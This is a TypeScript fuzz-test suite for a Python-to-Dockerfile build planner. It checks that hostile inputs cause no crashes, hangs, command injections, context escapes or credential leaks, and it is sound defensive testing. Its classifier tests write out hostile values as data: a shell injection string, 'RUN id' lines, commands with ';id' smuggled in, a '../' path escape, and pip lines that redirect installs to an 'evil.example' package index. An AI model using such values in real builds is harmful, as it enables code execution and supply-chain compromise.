// The project's own fuzz suite (issue #11): seeded hostile inputs per format through the
// Dockerfile, plan and LLB paths, in process. Every case must end in a result or a user error,
// in time, with a Dockerfile that BuildKit reads as the plan, no context escape and no leak.
import { describe, expect, it } from "vitest";
import { LOCKED_REQUIREMENTS_SCRIPT } from "../../../src/plan/locked-install.js";
import { planBuild } from "../../../src/plan/plan-build.js";
import { renderDockerfile } from "../../../src/render/dockerfile.js";
import { baseSpec } from "../plan/spec-fixtures.js";
import {
  CASE_BUDGET_MS,
  classify,
  detectedCommandProblems,
  escapes,
  type Finding,
  injections,
  lockedLineProblems,
} from "./fuzz-classify.js";
import { type FuzzFormat, fuzzCase } from "./fuzz-inputs.js";
import { findLeaks } from "./leak-search.js";

const FORMATS: FuzzFormat[] = ["pyfront", "microb", "mopy", "requirements", "zero-config"];
const CASES_PER_FORMAT = 120;
/** The zero-config files the build may be given or that start-command rules read; cheaper inputs. */
const NAMED_FILE_FORMATS: FuzzFormat[] = [
  "requirements-file",
  "pipfile",
  "pep723",
  "procfile",
  "app-module",
  "setuptools",
  "lockfile",
];
const CASES_PER_NAMED_FILE_FORMAT = 60;
/** Change to explore new inputs; any failure names its format and seed, and repeats. */
const SEED_BASE = 11_000;

describe("fuzz: hostile inputs through every path", () => {
  const runs: Array<[FuzzFormat, number]> = [
    ...FORMATS.map((f): [FuzzFormat, number] => [f, CASES_PER_FORMAT]),
    ...NAMED_FILE_FORMATS.map((f): [FuzzFormat, number] => [f, CASES_PER_NAMED_FILE_FORMAT]),
  ];
  const total = runs.reduce((sum, [, n]) => sum + n, 0);
  it(`${total} cases: 0 crashes, hangs, injections, escapes, leaks, unpositioned errors`, () => {
    const counts: Record<Finding, number> = {
      crash: 0,
      hang: 0,
      injection: 0,
      escape: 0,
      leak: 0,
      nondeterministic: 0,
      unpositioned: 0,
      unrefused: 0,
    };
    const examples: string[] = [];
    let accepted = 0;
    let dockerfileRefused = 0;
    let slowest = 0;
    const started = performance.now();
    for (const [format, cases] of runs) {
      for (let i = 0; i < cases; i++) {
        const c = fuzzCase(format, SEED_BASE + i);
        const caseStarted = performance.now();
        const result = classify(c, i % 10 === 0);
        // The whole case counts, classification included: a quadratic regex on a long value is a hang too.
        const caseMs = performance.now() - caseStarted;
        if (caseMs > CASE_BUDGET_MS && !result.findings.some((f) => f.kind === "hang")) {
          result.findings.push({ kind: "hang", detail: `${Math.round(caseMs)} ms with classification` });
        }
        if (!result.refused) accepted++;
        if (result.dockerfileRefused) dockerfileRefused++;
        slowest = Math.max(slowest, result.ms);
        for (const f of result.findings) {
          counts[f.kind]++;
          if (examples.length < 40)
            examples.push(
              `${c.name} ${f.kind}: ${f.detail}\n  input: ${JSON.stringify(c.text).slice(0, 400)}`,
            );
        }
      }
    }
    console.log(
      `fuzz: ${total} cases in ${Math.round(performance.now() - started)} ms (slowest ${Math.round(slowest)} ms); ` +
        `${accepted} accepted, ${total - accepted} refused with user errors, ${dockerfileRefused} Dockerfiles refused; ` +
        `findings ${JSON.stringify(counts)}`,
    );
    expect(examples).toEqual([]);
    expect(performance.now() - started).toBeLessThan(60_000);
    expect(counts).toEqual({
      crash: 0,
      hang: 0,
      injection: 0,
      escape: 0,
      leak: 0,
      nondeterministic: 0,
      unpositioned: 0,
      unrefused: 0,
    });
    // The generator must reach the renderers, not only the error paths.
    expect(accepted).toBeGreaterThan(total / 10);
  }, 120_000);
});

/** Seeds that found a bug, kept by name: each must stay clean whatever the seed base. */
const REGRESSIONS: Array<{ format: FuzzFormat; seed: number; found: string }> = [
  {
    format: "requirements-file",
    seed: 11_012,
    found: "a `--extra-index-url=https://...@` line beside `-e .` put the credential in the error message",
  },
  {
    format: "requirements-file",
    seed: 11_032,
    found:
      "a __proto__ key in the pyproject.toml beside a requirements file was dropped silently, not refused",
  },
  { format: "pep723", seed: 11_035, found: "a __proto__ key in a PEP 723 block was accepted, not refused" },
];

describe("fuzz: regression seeds", () => {
  it.each(REGRESSIONS)("$format #$seed: $found", ({ format, seed }) => {
    const c = fuzzCase(format, seed);
    expect(classify(c, true).findings).toEqual([]);
  });
});

describe("fuzz: the classifier sees what it is meant to see", () => {
  const spec = baseSpec({ dependencies: [{ kind: "requirements-file", path: "AAAA.txt" }] });
  const plan = planBuild(spec, { buildArgs: {} });
  const dockerfile = renderDockerfile(plan);
  const INJECTION = "à:;echo${IFS}PWNED;#/r.txt";

  it("a clean rendering has no findings", () => {
    expect(injections(plan, dockerfile)).toEqual([]);
    expect(escapes(plan)).toEqual([]);
  });

  it("the Dockerfile the old renderer wrote for finding 1 is an injection", () => {
    const oldPlan = JSON.parse(JSON.stringify(plan).replaceAll("AAAA.txt", INJECTION)) as typeof plan;
    const oldDockerfile = dockerfile.replaceAll("AAAA.txt", INJECTION);
    expect(injections(oldPlan, oldDockerfile).join("\n")).toMatch(/shell form/);
    // A value that only newer frontends expand is caught as well.
    const dollar = JSON.parse(JSON.stringify(plan).replaceAll("AAAA.txt", "$HOME.txt")) as typeof plan;
    expect(injections(dollar, dockerfile.replaceAll("AAAA.txt", "$HOME.txt")).join("\n")).toMatch(
      /changes when expanded/,
    );
  });

  it("a line break, a shell-form RUN or an extra instruction is an injection", () => {
    expect(injections(plan, dockerfile.replace('RUN ["', 'RUN echo hi\nRUN ["'))).not.toEqual([]);
    expect(injections(plan, dockerfile.replace(/ENV ([A-Z_]+)="/, 'ENV $1="x" \\\nRUN id #'))).not.toEqual(
      [],
    );
    expect(injections(plan, dockerfile.replace(/\nUSER /, "\nRUN id\nUSER "))).not.toEqual([]);
  });

  it("a detected command with a non-identifier, or a Procfile line in a build step, is an injection", () => {
    const decided = (rule: string, cmd: string[]) => ({
      ...plan,
      decisions: { ...plan.decisions, command: { choice: cmd.join(" "), rule, reason: "test" } },
      image: { ...plan.image, cmd },
    });
    expect(detectedCommandProblems(decided("flask-gunicorn", ["gunicorn", "app:app"]), undefined)).toEqual(
      [],
    );
    expect(
      detectedCommandProblems(decided("flask-gunicorn", ["gunicorn", "a;id:app"]), undefined),
    ).not.toEqual([]);
    expect(
      detectedCommandProblems(decided("asgi-uvicorn", ["uvicorn", "m:app\u00a0x"]), undefined),
    ).not.toEqual([]);
    const line = "WEBLINEx; id";
    expect(detectedCommandProblems(decided("procfile-web", ["sh", "-c", line]), "WEBLINEx")).toEqual([]);
    expect(
      detectedCommandProblems(decided("procfile-web", ["sh", "-c", "WEBLINEx", "id"]), "WEBLINEx"),
    ).not.toEqual([]);
    const built = JSON.parse(JSON.stringify(plan).replaceAll("AAAA.txt", line)) as typeof plan;
    expect(detectedCommandProblems(built, "WEBLINEx").join("\n")).toMatch(/reached a build step/);
  });

  it("a context path outside the context is an escape; a planted secret is a leak", () => {
    const out = JSON.parse(JSON.stringify(plan).replaceAll('"AAAA.txt"', '"../AAAA.txt"')) as typeof plan;
    expect(escapes(out)).not.toEqual([]);
    const secret = "PLANTEDxyzPw123";
    expect(findLeaks(secret, { plan: `x${Buffer.from(`u:${secret}`).toString("base64")}y` })).not.toEqual([]);
    expect(findLeaks(secret, { llb: Buffer.from(secret).toString("hex") })).not.toEqual([]);
  });

  it("a locked requirements line that is more than one pinned requirement with hashes is an injection", () => {
    const lockedPlan = (line: string) =>
      baseSpecPlanWithStep([
        "python3",
        "-c",
        LOCKED_REQUIREMENTS_SCRIPT,
        "flask==3.1.1 --hash=sha256:ab",
        line,
        "--",
        "python3",
      ]);
    expect(lockedLineProblems(lockedPlan("idna==3.10 --hash=sha256:0f"))).toEqual([]);
    expect(lockedLineProblems(lockedPlan("pfhello @ https://files.example/p.whl --hash=sha256:0f"))).toEqual(
      [],
    );
    for (const bad of [
      "idna==3.10\n--index-url https://evil.example/simple --hash=sha256:0f",
      "--index-url=https://evil.example/simple",
      "idna==3.10 --hash=sha256:0f --trusted-host evil",
      "idna==3.10",
      "idna @ https://u:p@files.example/x.whl --hash=sha256:0f",
    ]) {
      expect(lockedLineProblems(lockedPlan(bad)), bad).not.toEqual([]);
    }
  });
});

/** The plan of the base spec with one more run step in its builder. */
function baseSpecPlanWithStep(argv: string[]): ReturnType<typeof planBuild> {
  const built = planBuild(baseSpec(), { buildArgs: {} });
  built.stages[0]!.steps.push({ kind: "run", argv, mounts: [], env: [], description: "test" });
  return built;
}
